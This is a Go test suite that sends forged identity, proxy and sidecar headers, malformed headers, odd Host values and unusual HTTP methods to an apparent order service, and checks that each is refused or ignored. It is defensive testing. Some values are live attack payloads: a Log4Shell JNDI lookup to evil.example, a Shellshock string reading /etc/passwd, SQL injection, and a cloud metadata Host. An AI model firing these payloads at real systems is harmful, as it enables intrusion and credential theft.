package hostile

import (
	"bytes"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"stoa/test/client"
)

// claims of being somebody, or of coming from somewhere, that stand in no token.
func forgedHeaders(w *world) map[string][]string {
	return map[string][]string{
		"of a user":                 {"X-User-Id: " + w.alice.ID, "X-User: " + w.alice.ID, "X-User-Email: " + w.alice.Email},
		"of an account":             {"X-Account-Id: " + w.alice.ID, "X-Subject: " + w.alice.ID},
		"of roles":                  {"X-Roles: ADMIN,STAFF", "X-Role: STAFF", "X-User-Roles: STAFF"},
		"of a proxy that signs in":  {"X-Forwarded-User: " + w.alice.ID, "Remote-User: " + w.alice.ID, "X-Auth-Request-User: " + w.alice.ID},
		"of Kong":                   {"X-Authenticated-Userid: " + w.alice.ID, "X-Consumer-Custom-Id: " + w.alice.ID, "X-Authenticated-Groups: STAFF"},
		"of a certificate":          {"X-Client-Cert: MIIB", "X-Forwarded-Client-Cert: By=spiffe://stoa/ns/default/sa/order-worker", "Ssl-Client-Verify: SUCCESS"},
		"of the sidecar's token":    {"Dapr-Api-Token: guess"},
		"of the sidecar's caller":   {"Dapr-Caller-App-Id: order-worker", "Dapr-Caller-Namespace: default", "Dapr-Callee-App-Id: backoffice"},
		"of another app":            {"Dapr-App-Id: backoffice"},
		"of another app, as text":   {"dapr-app-id: inventory-api", "DAPR-APP-ID: auth"},
		"of a local machine":        {"X-Forwarded-For: 127.0.0.1", "X-Real-Ip: 127.0.0.1", "X-Client-Ip: 127.0.0.1", "True-Client-Ip: 127.0.0.1"},
		"of many machines":          {"X-Forwarded-For: " + strings.Repeat("10.0.0.1, ", 500) + "::1"},
		"of a machine that is none": {"X-Forwarded-For: ' OR 1=1--", "Forwarded: for=\"_hidden\";proto=https;host=evil.example"},
		"of another host":           {"X-Forwarded-Host: evil.example", "X-Host: evil.example", "X-Forwarded-Server: evil.example"},
		"of another path":           {"X-Original-Url: /v1.0/metadata", "X-Rewrite-Url: /metrics", "X-Forwarded-Prefix: /../../", "X-Original-Uri: /compact"},
		"of another method":         {"X-Http-Method-Override: DELETE", "X-Http-Method: PUT", "X-Method-Override: PATCH"},
		"that leave at this hop":    {"Connection: close, Authorization, X-Api-Key"},
		"that come at this hop":     {"Connection: X-User-Id, keep-alive", "X-User-Id: " + w.alice.ID, "Keep-Alive: timeout=9999"},
		"of a trace that is none":   {"Traceparent: 00-zz-zz-zz", "Tracestate: " + strings.Repeat("a=b,", 100), "Baggage: user=" + w.alice.ID},
		"of a trace of zeros":       {"Traceparent: 00-00000000000000000000000000000000-0000000000000000-ff"},
		"of a binary trace":         {"Grpc-Trace-Bin: AAAA", "Grpc-Timeout: 1n", "Grpc-Encoding: gzip"},
		"of a debugger":             {"X-Debug: true", "X-Dapr-Debug: 1", "X-B3-Flags: 1", "X-Trace: 1"},
		"of a cookie":               {"Cookie: session=" + w.alice.ID + "; role=ADMIN; $Version=1; =; a"},
		"of a browser elsewhere":    {"Origin: https://evil.example", "Referer: https://evil.example/", "Sec-Fetch-Site: cross-site"},
		"of a wish for everything":  {"Accept: */*;q=nan, text/html;level=1;q=-1, ,,", "Accept-Language: " + strings.Repeat("de,", 300)},
		"of a wish for another form": {
			"Accept: application/xml", "Accept-Encoding: br;q=1.0, gzip;q=0, *;q=0", "Accept-Charset: utf-7",
		},
		"of a part":                {"Range: bytes=0-0,1-1,2-2,-1", "If-Range: x"},
		"of a match":               {"If-Match: *", "If-None-Match: \"\", W/, *", "If-Modified-Since: tomorrow"},
		"of an id with a new name": {"X-Request-Id: " + strings.Repeat("x", 2000), "X-Correlation-Id: ${jndi:ldap://evil.example/a}"},
		"of a program that attacks": {
			"User-Agent: () { :; }; /bin/cat /etc/passwd", "X-Api-Version: ${jndi:ldap://evil.example/a}",
		},
		"of preferences": {"Prefer: respond-async; wait=-1, return=everything, " + strings.Repeat("x=y,", 200)},
	}
}

// headerAttacks claim much beside bob's token, or beside none.
func headerAttacks(w *world) []attack {
	var all []attack
	order := "/api/v1/orders/" + w.order.ID
	for name, lines := range forgedHeaders(w) {
		leaving := name == "that leave at this hop"
		ask := func(prefix, target string, as client.User, want int) {
			statuses := []int{want}
			if leaving {
				statuses = append(statuses, http.StatusUnauthorized) // what a caller asks to have dropped may be dropped
			}
			all = append(all, attack{
				name: prefix + " with headers " + name, wire: w.ask("GET", target, as, lines...).String(), want: statuses, check: unmarked(w),
			})
		}
		ask("another's order", order, w.bob, http.StatusNotFound)
		ask("nobody's order", order, client.User{}, http.StatusUnauthorized)
		ask("the staff's list", "/api/v1/backoffice/fulfilments", w.bob, http.StatusForbidden)
		ask("the own profile", "/api/v1/auth/profile/mine", w.bob, http.StatusOK)
	}
	return append(all, oddHeaders(w)...)
}

// unmarked checks that nothing that was claimed comes back.
func unmarked(w *world) func(*testing.T, client.Answer) {
	return func(t *testing.T, answer client.Answer) {
		if bytes.Contains(answer.Body, []byte(w.alice.ID)) || bytes.Contains(answer.Body, []byte("evil")) {
			t.Errorf("the claim was believed: %s", answer)
		}
		for name, values := range answer.Header {
			if strings.Contains(fmt.Sprint(values), "evil") || len(fmt.Sprint(values)) > 1000 {
				t.Errorf("the claim comes back: %s: %v", name, values)
			}
		}
		if answer.Header.Get("Access-Control-Allow-Origin") == "https://evil.example" {
			t.Error("any page may read the answer")
		}
	}
}

// oddHeaders are lines of a header that are none, or too many.
func oddHeaders(w *world) []attack {
	many := make([]string, 3000)
	for i := range many {
		many[i] = fmt.Sprintf("X-%d: %d", i, i)
	}
	lines := map[string][]string{
		"of 20 kB":                  {"X-Long: " + strings.Repeat("x", 20<<10)},
		"of 1 MB":                   {"X-Long: " + strings.Repeat("x", 1<<20)},
		"that are 3000":             many,
		"with a name of 20 kB":      {"X-" + strings.Repeat("x", 20<<10) + ": 1"},
		"without a colon":           {"X-Nothing"},
		"without a name":            {": nothing"},
		"with a space in a name":    {"X Space: 1"},
		"with a space after a name": {"X-Space : 1"},
		"with a zero":               {"X-Zero: a\x00b"},
		"with a zero in a name":     {"X-\x00: 1"},
		"with a delete in a name":   {"X-\x7f: 1"},
		"not in ASCII in a name":    {"X-Schlüssel: 1"},
		"with a return alone":       {"X-Return: a\rX-User-Id: b"},
		"with a token of 20 kB":     {"Authorization: Bearer " + strings.Repeat("x", 20<<10)},
	}
	refused := attack{want: []int{http.StatusBadRequest, http.StatusRequestHeaderFieldsTooLarge}, plain: true}
	all := each("headers", lines, refused, func(some []string) string {
		return w.ask("GET", "/api/v1/orders", client.User{}, some...).String()
	})
	bare := w.ask("GET", "/api/v1/orders", w.bob).without("Host")
	ignored := attack{want: []int{http.StatusBadRequest, http.StatusOK}, plain: true}
	hosts := map[string][]string{
		"that is missing": {}, "that is there twice": {"Host: a", "Host: b"}, "with a path": {"Host: a/b"}, "with a user": {"Host: admin@a"},
		"with a zero": {"Host: a\x00b"}, "with spaces": {"Host: a b"}, "with markup": {"Host: <script>"},
	}
	all = append(all, each("host", hosts, ignored, func(some []string) string { return bare.and(some...).String() })...)
	ignored.check = unmarked(w)
	return append(all, each("host", map[string]string{
		"elsewhere": "evil.example", "of the sidecar": "127.0.0.1:3600", "of an app": "backoffice", "of metadata": "169.254.169.254", "that is empty": "",
	}, ignored, func(host string) string { return bare.and("Host: " + host).String() })...)
}

// methodAttacks use methods that the operation does not know.
func methodAttacks(w *world) []attack {
	var all []attack
	order := "/api/v1/orders/" + w.order.ID
	refused := []int{http.StatusMethodNotAllowed, http.StatusNotFound, http.StatusBadRequest}
	for _, method := range []string{
		"DELETE", "PUT", "PATCH", "POST", "TRACE", "TRACK", "DEBUG", "CONNECT", "PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "SEARCH", "PURGE", "LINK",
		"INVENTED", "get", "Get", "GET\x00", "G\xcbT", "GE T", "", strings.Repeat("M", 5000), "__proto__",
	} {
		all = append(all, attack{
			name: fmt.Sprintf("method %.20q", method), wire: w.ask(method, order, w.alice).String(), want: refused, plain: true,
		})
	}
	return append(all, each("method", map[string]string{
		"CONNECT to another host": "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
		"CONNECT to the sidecar":  "CONNECT 127.0.0.1:3600 HTTP/1.1\r\nHost: 127.0.0.1:3600\r\nX-Api-Key: " + w.APIKey + "\r\n\r\n",
		"TRACE of a path":         w.ask("TRACE", "/", w.bob).String(),
		"DELETE of a list":        w.ask("DELETE", "/api/v1/orders", w.alice).String(),
		"PUT of a list":           w.ask("PUT", "/api/v1/orders", w.alice).with("[]").String(),
		"PATCH of a product":      w.ask("PATCH", "/api/v1/products/"+w.product.ID, w.staff).with(`{"stock":1000}`).String(),
		"POST to a profile":       w.ask("POST", "/api/v1/auth/profile/mine", w.bob).with(`{"roles":["ADMIN"]}`).String(),
	}, attack{want: refused, plain: true}, asIs)...)
}
